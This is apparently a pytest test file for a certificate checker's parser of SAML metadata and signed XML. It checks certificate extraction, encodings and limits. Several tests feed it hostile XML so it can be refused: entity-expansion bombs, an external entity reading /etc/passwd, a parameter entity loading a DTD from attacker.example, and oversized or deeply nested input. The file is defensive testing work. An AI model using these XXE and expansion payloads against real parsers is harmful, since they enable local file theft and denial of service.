"""SAML metadata and other signed XML: X509Certificate elements, and XML that attacks its reader."""

from __future__ import annotations

import base64
import textwrap

import pytest

from check_tls_cert.fetch.formats import FormatError
from tests import files
from tests.files import BROKEN, ISSUING, ISSUING_NAME, OTHER, OTHER_NAME, SITE, SITE_NAME

NAMESPACES = 'xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="http://www.w3.org/2000/09/xmldsig#"'


def x509(*certificates: bytes) -> str:
    """Return a KeyInfo, base64 wrapped and indented as identity providers do."""
    elements = "".join(
        "<ds:X509Certificate>\n{}\n  </ds:X509Certificate>".format(
            textwrap.indent(base64.encodebytes(certificate).decode(), "  ")
        )
        for certificate in certificates
    )
    return f"<ds:KeyInfo><ds:X509Data>{elements}</ds:X509Data></ds:KeyInfo>"


def metadata(content: str, prolog: str = '<?xml version="1.0"?>\n', entity: str = "https://idp.example.org/") -> str:
    return f'{prolog}<md:EntityDescriptor {NAMESPACES} entityID="{entity}">{content}</md:EntityDescriptor>'


ROLES = (
    f'<md:IDPSSODescriptor><md:KeyDescriptor use="signing">{x509(SITE.der, ISSUING.der)}</md:KeyDescriptor>'
    f'<md:KeyDescriptor use="encryption">{x509(OTHER.der)}</md:KeyDescriptor>'
    f"<md:KeyDescriptor>{x509(SITE.der)}</md:KeyDescriptor></md:IDPSSODescriptor>{x509(OTHER.der)}"
)
EXPECTED = [
    ("https://idp.example.org/ signing", [SITE_NAME]),
    ("https://idp.example.org/ signing", [ISSUING_NAME]),
    ("https://idp.example.org/ encryption", [OTHER_NAME]),
    ("https://idp.example.org/", [SITE_NAME]),
    ("https://idp.example.org/", [OTHER_NAME]),
]


@pytest.mark.parametrize(
    "data",
    [
        metadata(ROLES).encode(),
        metadata(ROLES, prolog="").encode(),
        b"\n" + metadata(ROLES, prolog="<!-- from the federation -->").encode(),
        b"\xef\xbb\xbf" + metadata(ROLES).encode(),
        metadata(ROLES, prolog='<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16"),
        metadata(ROLES, prolog='<?xml version="1.0" encoding="ISO-8859-1"?>').encode("latin-1"),
        metadata(ROLES, prolog="<!DOCTYPE EntityDescriptor>").encode(),
    ],
)
def test_keys_of_an_entity(data: bytes) -> None:
    assert files.contents(files.read(data)) == EXPECTED


def test_several_entities() -> None:
    inner = metadata(ROLES, prolog="") + metadata(x509(SITE.der), prolog="", entity="https://sp.example.org/")
    assert files.contents(files.read(f"<all>{inner}</all>".encode())) == [
        *EXPECTED,
        ("https://sp.example.org/", [SITE_NAME]),
    ]


def test_other_signed_xml() -> None:
    data = f'<signed {NAMESPACES}>{x509(SITE.der)}<ds:Other use="signing"/></signed>'
    assert files.contents(files.read(data.encode())) == [("", [SITE_NAME])]


def test_aliases_are_raw() -> None:
    entity = "https://idp.example.org/|&#10;\u202e"
    assert files.read(metadata(x509(SITE.der), entity=entity).encode())[0].alias == "https://idp.example.org/|\n\u202e"


def test_another_namespace_holds_no_certificate() -> None:
    assert files.read(b"<a><X509Certificate>AAAA</X509Certificate></a>") == []


def test_broken_certificate_costs_itself_alone() -> None:
    text = x509(BROKEN, b"AAA", SITE.der).replace("QUFB\n", "QUF?\n")
    broken, no_base64, good = files.contents(files.read(metadata(text).encode()))
    assert broken[1] == ["!not an X.509 certificate (fields are missing, or too many)"]
    assert no_base64[1][0].startswith("!an X509Certificate element is not base64 (")
    assert good[1] == [SITE_NAME]


def test_octets_that_are_no_ascii() -> None:
    data = metadata(x509(b"AAA").replace("QUFB", "QUF\u00e9"))
    assert "is not base64" in files.outcome(data.encode())


@pytest.mark.parametrize(
    "declaration",
    [
        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://attacker.example/a.dtd"> %a;',
    ],
)
def test_entities_are_refused(declaration: str) -> None:
    data = metadata(x509(SITE.der), prolog=f"<!DOCTYPE a [{declaration}]>")
    with pytest.raises(FormatError, match="the XML file declares entities"):
        files.read(data.encode())


def test_external_subset_is_not_fetched() -> None:
    data = metadata(ROLES, prolog='<!DOCTYPE a SYSTEM "file:///etc/passwd">')
    assert files.contents(files.read(data.encode())) == EXPECTED


@pytest.mark.parametrize("data", [metadata(ROLES)[:-1], metadata("&unknown;" + ROLES), metadata(ROLES) + "<"])
def test_not_well_formed(data: str) -> None:
    with pytest.raises(FormatError, match=r"the XML file is broken \("):
        files.read(data.encode())


def test_unknown_encoding() -> None:
    data = metadata(ROLES, prolog='<?xml version="1.0" encoding="no such"?>')
    assert "the XML file is broken" in files.outcome(data.encode())


def test_deep_nesting() -> None:
    data = metadata("<a>" * 900 + x509(SITE.der) + "</a>" * 900)
    assert files.contents(files.read(data.encode())) == [("https://idp.example.org/", [SITE_NAME])]
    assert files.outcome(metadata("<a>" * 1_000).encode() + b"X509Certificate") == "the XML file is nested too deep"


@pytest.mark.parametrize("part", ["<a/>", 'a="" '])
def test_more_parts_than_in_any_file(part: str) -> None:
    """Counted before they are read: of a million names that differ, expat keeps each."""
    data = metadata("<a " + part * 250_000 + ">") if part.startswith("a") else metadata(part * 500_000)
    assert files.outcome(data.encode() + b"X509Certificate") == "the XML file has too many parts"


def test_zeros_are_refused() -> None:
    """They are in UTF-16 without byte order mark, in which parts cannot be counted."""
    data = metadata(x509(SITE.der)).encode("utf-16-le") + b"X509Certificate"
    assert files.outcome(data) == "the XML file is broken (it holds NUL)"


def test_certificate_larger_than_any() -> None:
    """Held no further than the largest may take; the next one is read."""
    data = metadata(f"<ds:X509Certificate>{'AAAA' * 1_500_000}</ds:X509Certificate>{x509(SITE.der)}")
    (_, [broken]), good = files.contents(files.read(data.encode()))
    assert broken == "!an X509Certificate element is too long"
    assert good[1] == [SITE_NAME]


def test_long_name_is_not_held_for_each_certificate() -> None:
    found = files.contents(files.read(metadata(x509(SITE.der), entity="a" * 100_000).encode()))
    assert found == [("a" * 500, [SITE_NAME])]


def test_more_certificates_than_in_any_file() -> None:
    """Counted while the file is read: a file of empty elements would make a million entries."""
    elements = "<ds:X509Certificate/>"
    assert len(files.read(metadata(elements * 10_000).encode())) == 10_000
    assert files.outcome(metadata(elements * 10_001).encode()) == "the file holds more than 10000 certificates"


def test_cut_and_changed_anywhere() -> None:
    data = metadata(f'<md:KeyDescriptor use="signing">{x509(SITE.der)}</md:KeyDescriptor>').encode()
    files.survives_truncation(data)
    files.survives_flips(data)
